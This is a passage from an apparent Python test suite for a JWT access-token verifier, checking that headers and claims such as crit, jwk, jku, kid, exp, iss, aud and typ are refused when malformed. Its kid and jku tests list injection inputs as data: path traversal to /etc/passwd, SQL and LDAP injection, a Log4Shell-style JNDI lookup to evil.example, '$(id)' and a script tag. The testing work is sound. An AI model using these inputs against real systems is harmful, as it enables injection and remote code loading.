    ["exp", "exp"],
    [""],
    [1],
    "exp",
    {},
    True,
    0,
):
    refused(
        f"A22 crit is {value!r}",
        "header: crit is not understood",
        lambda f, value=value: f.token(header={**f.header(f.es), "crit": value, "exp": NOW}),
    )
refused(
    "A22 crit is null",
    "header: crit is not understood",
    lambda f: f.token(header=b'{"alg":"ES256","kid":"es","crit":null}'),
)

for name, more in {
    "critical": {"b64": False, "crit": ["b64"]},
    "not critical": {"b64": False},
    "true": {"b64": True},
    "a string": {"b64": "false"},
}.items():
    refused(
        f"A23 b64, {name}",
        ("header: crit is not understood", "header: b64 is not understood"),
        lambda f, more=more: f.token(header=f.header(f.es, **more)),
    )


def unencoded(f):
    signed = f"{b64(dump(f.header(f.es, b64=False, crit=['b64'])))}.{dump(f.claims()).decode()}"
    return signed + "." + f.token().rpartition(".")[2]


refused("A23 a payload that is not encoded", "header: crit is not understood", unencoded)
for value in ("DEF", "GZIP", ""):
    refused(
        f"A24 zip is {value!r}",
        "header: zip is not understood",
        lambda f, value=value: f.token(header=f.header(f.es, zip=value)),
    )
refused(
    "A25 a token in a token",
    NOT_JSON,
    lambda f: f.token(payload=f.token().encode(), header=f.header(f.es, cty="JWT")),
)


def encrypted_to_us(plaintext):
    def make(f):
        key = RSAKey.import_key(pem(f.rs))
        header = {"alg": "RSA-OAEP", "enc": "A128GCM", "kid": "rs", "cty": "JWT"}
        return jwe.encrypt_compact(header, plaintext(f), key)

    return make


JWE = "header: enc is not understood"
refused("A26 bare claims, encrypted", JWE, encrypted_to_us(lambda f: dump(f.claims())))
refused("A26 a signed token, encrypted", JWE, encrypted_to_us(lambda f: f.token().encode()))
refused(
    "A26 an unsigned token, encrypted",
    JWE,
    encrypted_to_us(lambda f: f"{b64(dump({'alg': 'none'}))}.{b64(dump(f.claims()))}.".encode()),
)
for alg in ("dir", "RSA1_5", "PBES2-HS256+A128KW"):

    def foreign(f, alg=alg):
        header = f.header(f.es, alg=alg, enc="A128GCM", p2c=2_000_000_000, p2s="AAAA")
        return f"{b64(dump(header))}..AAAAAAAAAAAAAAAA.e30.AAAAAAAAAAAAAAAAAAAAAA"

    refused(f"A26 {alg} in five parts", JWE, foreign)
refused("A26 enc in three parts", JWE, lambda f: f.token(header=f.header(f.es, enc="A128GCM")))

# ── A27 to A29 what a header may not bring ──────────────────────────────────────────────────────

for which, evil in (("rs", "evil_rs"), ("es", "evil_es"), ("ed", "evil_ed")):
    for name, kid in (("our kid", which), ("a kid of its own", "evil"), ("no kid", None)):

        def bringing_its_key(f, which=which, evil=evil, kid=kid):
            key = getattr(f, evil)
            header = f.header(key, kid=kid, jwk={**key.public_jwk(), "kid": kid or "x"})
            return Refusal(f.token(key, header=header), f.token(getattr(f, which)))

        refused(
            f"A27 a jwk of {evil} with {name}",
            KEY if kid == "evil" else SIGNATURE,
            bringing_its_key,
            UnknownKey if kid == "evil" else InvalidToken,
        )
refused(
    "A27 a symmetric jwk",
    ALLOWED,
    lambda f: f.signed_by_secret(f.es, b"secret", jwk={"kty": "oct", "k": b64(b"secret")}),
)
for name, kid in (("our kid", "rs"), ("no kid", None)):
    refused(
        f"A27 an x5c of its own with {name}",
        SIGNATURE,
        lambda f, kid=kid: f.token(
            f.evil_rs,
            header=f.header(
                f.evil_rs, kid=kid, x5c=[b64encode(f.evil_rs.certificate).decode()], x5t="AAAA"
            ),
        ),
    )
for name in ("jku", "x5u"):
    for url in (
        "https://evil.example/jwks.json",
        "http://localhost:1/jwks.json",
        "http://127.0.0.1:1/",
        "http://[::1]:1/",
        "file:///etc/passwd",
        "https://issuer.example@evil.example/",
    ):
        refused(
            f"A28 {name} is {url}",
            SIGNATURE,
            lambda f, name=name, url=url: f.token(f.evil_es, header=f.header(f.es, **{name: url})),
        )

for kid in (
    "nobody",
    "ES",
    "es ",
    " es",
    "es\x00",
    "es\r\nX-Evil: 1",
    "e",
    "ess",
    "../es",
    "../../../../etc/passwd",
    "/dev/null",
    "C:\\es",
    "' OR '1'='1",
    "es' -- ",
    "*)(uid=*",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "$(id)",
    "https://evil.example/jwks.json",
    "<script>alert(1)</script>",
    "\uff45\uff53",
    "e\u0301s",
    "__class__",
    "0",
    "null",
    "x" * 512,
):
    refused(
        f"A29 kid is {kid[:40]!r}",
        KEY,
        lambda f, kid=kid: f.token(header=f.header(f.es, kid=kid)),
        UnknownKey,
    )
for value in (1, 0, True, False, 1.5, [], ["es"], {}, {"kid": "es"}, "", "x" * 513):
    refused(
        f"A29 kid is {str(value)[:20]!r} {type(value)}",
        "header: kid is not a string",
        lambda f, value=value: f.token(header={**f.header(f.es), "kid": value}),
    )
refused(
    "A29 kid is null",
    "header: kid is not a string",
    lambda f: f.token(header=b'{"alg":"ES256","kid":null}'),
)


def two_keys_and_no_kid(f):
    others = KeySet((f.es.verifying_key(), replace(f.evil_es.verifying_key(), kid="other")))
    return Refusal(f.token(header=f.header(f.es, kid=None)), f.token(), keys=others)


refused("A29 no kid, and two keys to choose from", KEY, two_keys_and_no_kid, UnknownKey)

# ── A31 to A33 times ────────────────────────────────────────────────────────────────────────────

for name, value in {
    "long ago": 1,
    "zero": 0,
    "an hour ago": NOW - 3600,
    "ten seconds ago, the whole leeway": NOW - 10,
    "a fraction": NOW - 10.5,
}.items():
    refused(
        f"A31 expired {name}",
        "exp: expired",
        lambda f, value=value: f.token(payload=f.claims(exp=value, iat=..., nbf=...)),
        Expired,
    )
refused("A31 exp is missing", "exp: missing", lambda f: f.token(payload=f.claims(exp=...)))
NOT_A_DATE = [
    None,
    "",
    "never",
    str(NOW + 600),
    "2030-01-01T00:00:00Z",
    True,
    False,
    [],
    [NOW + 600],
    {},
    {"$date": NOW},
    -1,
    -1.5,
    -(2**63),
    (NOW + 600) * 1000,
    (NOW + 600) * 1_000_000,
    2**63 - 1,
    2**64 - 1,
    1e300,
]
for name in ("exp", "nbf", "iat"):
    for value in NOT_A_DATE:
        refused(
            f"A31 {name} is {value!r}",
            f"{name}: not a date",
            lambda f, name=name, value=value: f.token(payload=f.claims(**{name: value})),
        )
    for value in (b"NaN", b"Infinity", b"-Infinity", b"1e400", b"9" * 5_000, b"9" * 21):
        before = f'"{name}":{CLAIMS[name]}'.encode()
        payload = instead(before, f'"{name}":'.encode() + value)
        refused(
            f"A31 {name} is {value[:21]!r} of {len(value)}",
            "payload: a number",
            lambda f, payload=payload: f.token(payload=payload),
        )
refused(
    "A31 exp in hexadecimal",
    NOT_JSON,
    lambda f: f.token(payload=instead(b'"exp":1700000600', b'"exp":0x77359400')),
)
for seconds in (11, 10.001, 3600, 10**9):
    refused(
        f"A32 nbf in {seconds} s",
        "nbf: not yet valid",
        lambda f, seconds=seconds: f.token(payload=f.claims(nbf=NOW + seconds)),
    )
for seconds in (61, 60.001, 3600, 10**9):
    refused(
        f"A33 iat in {seconds} s",
        "iat: in the future",
        lambda f, seconds=seconds: f.token(
            payload=f.claims(iat=NOW + seconds, exp=NOW + 10**9 + 9)
        ),
    )
for seconds in (0, 1, 0.5, 1000):
    refused(
        f"A33 exp {seconds} s before iat",
        "exp: not after iat",
        lambda f, seconds=seconds: f.token(
            payload=f.claims(iat=NOW + 50, exp=NOW + 50 - seconds, nbf=...)
        ),
    )
AGED = replace(EXPECTED, max_age=60)
refused(
    "A33 older than the greatest age",
    "iat: too long ago",
    lambda f: Refusal(f.token(payload=f.claims(iat=NOW - 70)), expected=AGED),
)
refused(
    "A33 of no age where there is a greatest",
    "iat: missing",
    lambda f: Refusal(f.token(payload=f.claims(iat=...)), expected=AGED),
)

# ── A34 the issuer, A35 the audience ────────────────────────────────────────────────────────────

for value in (
    "https://issuer.example",
    "https://issuer.example//",
    "https://issuer.example/ ",
    " https://issuer.example/",
    "https://issuer.example/\n",
    "https://issuer.example/\x00",
    "http://issuer.example/",
    "HTTPS://issuer.example/",
    "https://Issuer.example/",
    "https://issuer.example:443/",
    "https://issuer.example./",
    "https://user@issuer.example/",
    "https://issuer.example/@evil.example/",
    "https://issuer.example.evil.example/",
    "https://evil.example/https://issuer.example/",
    "https://evil.example/",
    "https://issuer.example/.",
    "https://issuer.example/../",
    "https://issuer.example/%2e%2e/",
    "https://issuer.example/?",
    "https://issuer.example/#",
    "https://issuer.example/tenant",
    "https://%69ssuer.example/",
    "https://\u0456ssuer.example/",
    "https://issuer\uff0eexample/",
    "issuer.example",
    "https://issuer.exampl",
    "",
    "*",
    ["https://issuer.example/"],
    {"https://issuer.example/": True},
    None,
    True,
    0,
):
    refused(
        f"A34 iss is {value!r}",
        "iss: not the expected issuer",
        lambda f, value=value: f.token(payload=f.claims(iss=value)),
    )
refused(
    "A34 iss is missing",
    "iss: not the expected issuer",
    lambda f: f.token(payload=f.claims(iss=...)),
)
refused(
    "A34 iss in the header only",
    "iss: not the expected issuer",
    lambda f: f.token(header=f.header(f.es, iss=ISSUER), payload=f.claims(iss=...)),
)

for value in (
    "https://api.example",
    "https://api.example/reports/",
    "https://api.example/reports ",
    " https://api.example/reports",
    "https://api.example/reports\x00",
    "https://api.example/report",
    "https://api.example/Reports",
    "HTTPS://api.example/reports",
    "http://api.example/reports",
    "https://api.example:443/reports",
    "https://api.example/reports,https://other.example/",
    "https://other.example/ https://api.example/reports",
    "https://api.example/reports?x",
    "https://api.example/reports#x",
    "https://api.example/reports/../admin",
    "https://other.example/",
    "",
    "*",
    "https://*/reports",
    "https://issuer.example/",
    ["https://other.example/"],
    ["https://api.example/", "reports"],
    ["https://api.example/reports/", "HTTPS://API.EXAMPLE/REPORTS"],
    list("https://api.example/reports"),
):
    refused(
        f"A35 aud is {value!r}",
        "aud: not for us",
        lambda f, value=value: f.token(payload=f.claims(aud=value)),
    )
for value in (
    [],
    [AUDIENCE, None],
    [None],
    [AUDIENCE, 1],
    [[AUDIENCE]],
    [{"aud": AUDIENCE}],
    {AUDIENCE: True},
    {"aud": AUDIENCE},
    {},
    True,
    0,
    1.5,
    None,
):
    refused(
        f"A35 aud is {value!r}",
        "aud: neither a string nor a list of strings",
        lambda f, value=value: f.token(payload=f.claims(aud=value)),
    )
refused("A35 aud is missing", "aud: missing", lambda f: f.token(payload=f.claims(aud=...)))
refused(
    "A35 one audience of several is not ours, if we have several",
    "aud: not for us",
    lambda f: Refusal(
        f.token(payload=f.claims(aud="https://api.example/c")),
        f.token(payload=f.claims(aud="https://api.example/b")),
        expected=replace(EXPECTED, audience=("https://api.example/a", "https://api.example/b")),
    ),
)

# ── A36 other claims, A37 the kind of token ─────────────────────────────────────────────────────

for name in ("sub", "jti", "client_id"):
    for value in ("", None, 0, 1, True, 1.5, [], ["x"], {}, {"x": 1}):
        refused(
            f"A36 {name} is {value!r}",
            f"{name}: not a string, or empty",
            lambda f, name=name, value=value: f.token(payload=f.claims(**{name: value})),
        )
for name in ("sub", "scope", "iat"):
    refused(
        f"A36 {name} is required and missing",
        f"{name}: missing",
        lambda f, name=name: Refusal(
            f.token(payload=f.claims(**{name: ...})),
            expected=replace(EXPECTED, required=("exp", "sub", "scope", "iat")),
        ),
    )

for value in (
    "dpop+jwt",
    "logout+jwt",
    "secevent+jwt",
    "token-introspection+jwt",
    "oauth-authz-req+jwt",
    "client-authentication+jwt",
    "jarm+jwt",
    "vc+sd-jwt",
    "application/dpop+jwt",
    "text/jwt",
    "at+jwt ",
    " at+jwt",
    "at+jwt;x=1",
    "at-jwt",
    "at+jwt\x00",
    "application/",
    "application/application/at+jwt",
    "JOSE",
    "JOSE+JSON",
    "\uff2awt",
):
    refused(
        f"A37 typ is {value!r}",
        "header: typ is another kind of token",
        lambda f, value=value: f.token(header=f.header(f.es, typ=value)),
    )
for value in (1, True, [], ["at+jwt"], {}, "", "x" * 513):
    refused(
        f"A37 typ is {str(value)[:20]!r} {type(value)}",
        "header: typ is not a string",
        lambda f, value=value: f.token(header={**f.header(f.es), "typ": value}),
    )
refused(
    "A37 typ with a Kelvin sign for its k",
    "header: typ is another kind of token",
    lambda f: Refusal(
        f.token(header=f.header(f.es, typ="to\u212aen+jwt")),
        f.token(header=f.header(f.es, typ="TOKEN+JWT")),
        expected=replace(EXPECTED, typ=frozenset({"token+jwt"})),
    ),
)
STRICT = replace(EXPECTED, typ=frozenset({"at+jwt"}))
for value in ("JWT", "jwt", None):
    refused(
        f"A37 typ is {value!r} where only access tokens are wanted",
        "header: typ is another kind of token",
        lambda f, value=value: Refusal(
            f.token(header=f.header(f.es, typ=value)), f.token(), expected=STRICT
        ),
    )
